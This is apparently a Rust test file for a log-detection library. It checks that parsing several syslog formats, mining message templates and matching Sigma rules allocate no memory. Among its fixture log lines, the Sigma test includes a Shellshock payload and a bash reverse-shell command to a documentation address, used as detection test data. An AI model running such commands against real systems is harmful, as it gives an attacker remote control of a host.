//! Parsing, mining known messages and Sigma matching allocate nothing: a counting global
//! allocator watches this thread while every format is parsed and all of its fields and
//! structured-data parameters are read, known messages are mined, and events are matched.

use std::{
    alloc::{GlobalAlloc, Layout, System},
    cell::Cell,
};

use detector::parse::{Event, FieldIndex, ParseOptions, parse, parse_indexed};

struct Counting;

thread_local! {
    static COUNTING: Cell<bool> = const { Cell::new(false) };
    static ALLOCATIONS: Cell<u64> = const { Cell::new(0) };
}

// SAFETY: every call is forwarded unchanged to the system allocator; the counting only touches
// const-initialised thread-locals, which never allocate.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        if COUNTING.with(Cell::get) {
            ALLOCATIONS.with(|a| a.set(a.get() + 1));
        }
        // SAFETY: same contract as the caller's.
        unsafe { System.alloc(layout) }
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        // SAFETY: same contract as the caller's.
        unsafe { System.dealloc(ptr, layout) }
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        if COUNTING.with(Cell::get) {
            ALLOCATIONS.with(|a| a.set(a.get() + 1));
        }
        // SAFETY: same contract as the caller's.
        unsafe { System.realloc(ptr, layout, new_size) }
    }
}

#[global_allocator]
static GLOBAL: Counting = Counting;

const MESSAGES: [&str; 9] = [
    r#"<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 [exampleSDID@32473 iut="3" eventSource="Application" eventID="1011"][examplePriority@32473 class="high"] An application event log entry with a somewhat longer text to cross SIMD blocks"#,
    "<34>Oct 11 22:14:15 mymachine su: 'su root' failed for lonvick on /dev/pts/8",
    "Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user webmaster from 173.234.31.186",
    "<189>123: *Mar  1 00:00:40.123: %SYS-5-CONFIG_I: Configured from console by vty0",
    r#"<14>1 - host app - - - {"version":"1.1","host":"h","short_message":"x \"y\"","level":3,"_o":{"a":[1,2]}}"#,
    "<14>Oct 11 22:14:15 h CEF:0|Security|threatmanager|1.0|100|worm stopped|10|src=10.0.0.1 dst=2.1.2.2 msg=Detected a threat cs1=a\\=b",
    "<14>Oct 11 22:14:15 h LEEF:2.0|Lancope|StealthWatch|1.0|41|^|src=10.0.1.8^dst=10.0.0.5^sev=5",
    r#"<14>1 - h app - - - level=info msg="a \"b\" c" n=5"#,
    "type=USER_LOGIN msg=audit(1364481363.243:24287): pid=2222 uid=0 msg='op=login res=failed'",
];

/// Bytes of every field, parameter, body and host of `e`.
fn read_all(m: &str, e: &Event<'_>) -> usize {
    assert_eq!(e.error, None, "{m}");
    let mut seen = e
        .fields()
        .map(|f| f.key.len() + f.value.len())
        .sum::<usize>();
    seen += e
        .sd_params()
        .map(|(id, k, v)| id.len() + k.len() + v.len())
        .sum::<usize>();
    seen + e.body.len() + e.host.map_or(0, <[u8]>::len)
}

/// Every message parsed, and read, with and without a field index (one, reused).
fn parse_everything(index: &mut FieldIndex) -> usize {
    let opts = ParseOptions {
        year: Some(2024),
        ..ParseOptions::default()
    };
    let mut seen = 0;
    for m in MESSAGES {
        let walked = read_all(m, &parse(m.as_bytes(), &opts));
        let indexed = read_all(m, &parse_indexed(m.as_bytes(), &opts, index));
        assert_eq!(walked, indexed, "{m}");
        seen += walked + indexed;
    }
    seen
}

#[test]
fn the_counter_counts() {
    COUNTING.with(|c| c.set(true));
    let v = std::hint::black_box(vec![1u8; 10]);
    COUNTING.with(|c| c.set(false));
    assert_eq!(v.len(), 10);
    assert_eq!(ALLOCATIONS.with(Cell::get), 1);
}

#[test]
fn parsing_every_format_allocates_nothing() {
    // The first call picks the SIMD implementation (reading the environment allocates once).
    let mut index = FieldIndex::default();
    let warm = parse_everything(&mut index);
    COUNTING.with(|c| c.set(true));
    let seen = parse_everything(&mut index);
    COUNTING.with(|c| c.set(false));
    assert_eq!(seen, warm);
    assert!(seen > 1000, "the fields were really read: {seen} bytes");
    assert_eq!(ALLOCATIONS.with(Cell::get), 0, "allocations while parsing");
}

#[test]
fn mining_known_messages_allocates_nothing() {
    use detector::mining::{Miner, MinerOptions};
    let mut miner = Miner::new(MinerOptions::default());
    let lines = [
        "Invalid user admin from 198.51.100.7",
        "Invalid user oracle from 203.0.113.9",
        "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.7",
        "Received disconnect from 203.0.113.9: 11: Bye Bye [preauth]",
    ];
    // The first pass creates the templates and tree paths; the second settles the wildcards.
    for _ in 0..2 {
        for l in lines {
            miner.add(l);
        }
    }
    let mut ids = [0u64; 4];
    COUNTING.with(|c| c.set(true));
    for (id, l) in ids.iter_mut().zip(lines) {
        *id = miner.add(l).id;
    }
    COUNTING.with(|c| c.set(false));
    assert_eq!(
        ALLOCATIONS.with(Cell::get),
        0,
        "allocations while mining known messages"
    );
    assert_eq!(ids[0], ids[1]);
}

#[test]
fn sigma_matching_allocates_nothing() {
    use detector::rules::{
        load::load_dir,
        sigma::{LogsourceMap, SigmaRule, SigmaScratch, SigmaSet},
    };
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/rules/sigma-linux");
    let mut rules = load_dir(std::path::Path::new(dir), &LogsourceMap::default()).rules;
    // Regexes on the body and on a payload field, through their RegexSets.
    rules.push(
        SigmaRule::from_yaml(
            "re.yml",
            "title: re\nlogsource: {product: linux}\ndetection:\n    a:\n        message|re: 'user (admin|root)'\n    b:\n        uid|re: '^0$'\n    condition: a or b\n",
            &LogsourceMap::default(),
        )
        .unwrap(),
    );
    let set = SigmaSet::new(rules);
    let lines: Vec<String> = MESSAGES
        .iter()
        .map(|m| m.to_string())
        .chain([
            "<13>Nov 22 10:00:00 h httpd[3]: GET /cgi-bin/x UA: () { :; }; /bin/id".to_string(),
            "<13>Nov 22 10:00:00 h bash[1]: bash -i >& /dev/tcp/198.51.100.9/4444 0>&1".into(),
            "<38>Nov 22 10:00:00 h sshd[1]: Invalid user admin from 198.51.100.7".into(),
        ])
        .collect();
    let events: Vec<_> = lines
        .iter()
        .map(|l| parse(l.as_bytes(), &ParseOptions::default()))
        .collect();
    let mut scratch = SigmaScratch::default();
    let pass = |scratch: &mut SigmaScratch| {
        let mut hits = 0;
        for e in &events {
            set.for_each_match(e, scratch, |_| hits += 1);
        }
        hits
    };
    // The first pass sizes the scratch and lets the regexes' lazy DFAs build their states.
    let warm = pass(&mut scratch);
    COUNTING.with(|c| c.set(true));
    let hits = pass(&mut scratch);
    COUNTING.with(|c| c.set(false));
    assert_eq!(hits, warm);
    assert!(
        hits >= 4,
        "the shellshock, reverse shell and both regex lines: {hits}"
    );
    assert_eq!(ALLOCATIONS.with(Cell::get), 0, "allocations while matching");
}
